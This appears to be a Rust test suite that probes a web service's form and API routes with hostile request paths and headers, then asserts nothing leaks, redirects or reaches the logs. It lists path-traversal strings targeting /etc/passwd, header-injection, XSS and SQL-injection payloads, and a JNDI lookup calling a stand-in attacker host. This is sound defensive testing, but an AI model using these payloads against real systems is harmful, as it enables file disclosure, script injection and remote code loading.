//! Paths that mean something else to somebody.

use crate::raw::{get, send, summed};
use crate::siege::Siege;

const TARGETS: [&str; 46] = [
    "//",
    "//avis/3059",
    "//evil.example/avis/3059",
    "///etc/passwd",
    "/../../etc/passwd",
    "/v1/../../etc/passwd",
    "/v1/..%2f..%2fetc%2fpasswd",
    "/v1/%2e%2e/%2e%2e/etc/passwd",
    "/v1/%252e%252e%252fetc%252fpasswd",
    "/v1/..\\..\\windows",
    "/v1/..%5c..%5cwindows",
    "/v1/%c0%ae%c0%ae%c0%afetc%c0%afpasswd",
    "/v1/%e0%80%ae%e0%80%af",
    "/v1/avis.js/",
    "/v1/avis.js.",
    "/v1/avis.js%00.png",
    "/v1/avis.js;a=b",
    "/v1/avis.js%20",
    "/v1/AVIS.JS",
    "/v1/.avis.js",
    "/v1/avis.js.br",
    "/static/..%2f..%2fCargo.toml",
    "/static/buttons/..%2f..%2f..%2fCargo.toml",
    "/avis/%00",
    "/avis/3059%00",
    "/avis/3059%2f",
    "/avis/%2e",
    "/avis/..",
    "/avis/3059/../../health/ready",
    "/avis/3059;jsessionid=1",
    "/avis/3059.",
    "/avis/3059%0d%0aX-Injected:%20yes",
    "/avis/%ff%fe",
    "/avis/%",
    "/avis/%zz",
    "/avis/<script>alert(1)</script>",
    "/avis/%3Cscript%3Ealert(1)%3C%2Fscript%3E",
    "/avis/'%20or%201=1--",
    "/avis/${jndi:ldap:%2f%2fevil.example%2fa}",
    "/avis/3059?bouton=%00%0d%0aX-Injected:%20yes",
    "/avis/3059?mode=widget&nonce=%0d%0aX-Injected:%20yes%22%3E%3Cscript%3Ealert(1)%3C/script%3E",
    "/integration/3059?bouton=%22%3E%3Cscript%3Ealert(1)%3C/script%3E",
    "/observatoire?q=%22%3E%3Cscript%3Ealert(1)%3C/script%3E&ministry=%3Cscript%3Ealert(1)%3C/script%3E",
    "/demarches/%0d%0aX-Injected:%20yes/badge.svg",
    "/problems/%3Cscript%3Ealert(1)%3C/script%3E",
    "/.git/config",
];

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn no_path_leads_where_no_page_is() {
    let siege = Siege::begin(&format!("{} tricks with paths", TARGETS.len())).await;
    let mut outcomes = Vec::new();
    for target in TARGETS {
        let answers = send(siege.address(), get(target).as_bytes()).await;
        let answer = answers.only();
        assert!(answer.status < 500 && answer.status != 0, "{target}: {answer:.600?}");
        assert!(!answer.head.contains("\r\nlocation:"), "{target} leads elsewhere: {answer:.600?}");
        assert!(!answer.head.contains("x-injected"), "{target}: {answer:.600?}");
        for told in ["<script>alert", "root:x:", "[workspace]"] {
            assert!(!answer.body.contains(told), "{target} tells {told}: {answer:.2000?}");
        }
        // A form is never found by another name: what follows its démarche would be somebody's instruction.
        if target.starts_with("/avis/3059") && !target.contains('?') {
            assert_eq!(answer.status, 404, "{target}");
        }
        outcomes.push(answer.status.to_string());
    }
    siege.end(&summed(outcomes)).await;
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn what_stands_in_an_address_stays_in_its_line_of_the_log() {
    let siege = Siege::begin("what a stranger can write into a log").await;
    let marked = "INJECTED";
    let trick = format!("{marked}\u{1b}[31m\u{2028}\u{202e}=cmd()");
    let encoded = format!("%0d%0a%1b[31m{marked}%E2%80%A8%E2%80%AE=cmd()");
    let to = siege.address();
    for target in [
        format!("/{encoded}"),
        format!("/avis/{encoded}?lang={encoded}&bouton={encoded}"),
        format!("/api/v1/satisfaction?from={encoded}&{encoded}=1&demarche={encoded}"),
        format!(
            "/api/trpc/answer.getObservatoireStats?input=%7B%22json%22%3A%7B%22product_id%22%3A%22{encoded}%22%7D%7D"
        ),
        format!("/api/trpc/{encoded}?batch=1&input={encoded}"),
        format!("/Demarches/{encoded}?button={encoded}"),
    ] {
        send(to, get(&target).as_bytes()).await.only();
    }
    let headers = format!(
        "User-Agent: {trick}\r\nReferer: https://a.fr/{marked}\r\nOrigin: {marked}\r\nX-Forwarded-For: {marked}\r\nAuthorization: Bearer {marked}\r\nAccept-Language: {marked}\r\n"
    );
    for target in ["/avis/3059", "/nowhere", "/api/v1/avis"] {
        send(to, get(target).replace("\r\n\r\n", &format!("\r\n{headers}\r\n")).as_bytes()).await;
    }
    send(to, format!("{marked} /{marked} HTTP/1.1\r\nHost: {marked}\r\n\r\n").as_bytes()).await;
    let body = format!("{{\"demarche\":\"{marked}\",\"{marked}\":\"\\n\\u001b[31m\"}}");
    send(to, crate::raw::post("", &body).as_bytes()).await;

    let (_, log) = siege.collector.written();
    let lines: Vec<&str> = log.lines().filter(|line| line.contains(marked)).collect();
    assert!(lines.is_empty(), "{lines:?}");
    for alone in ['\u{1b}', '\u{2028}', '\u{2029}', '\u{202e}', '\u{0}', '\r'] {
        assert!(!log.contains(alone), "{alone:?} is in the log");
    }
    let begins = |line: &str| line.starts_with("20") || line.is_empty();
    assert!(log.lines().all(begins), "a line that is none: {log}");
    siege.end("nothing of it").await;
}
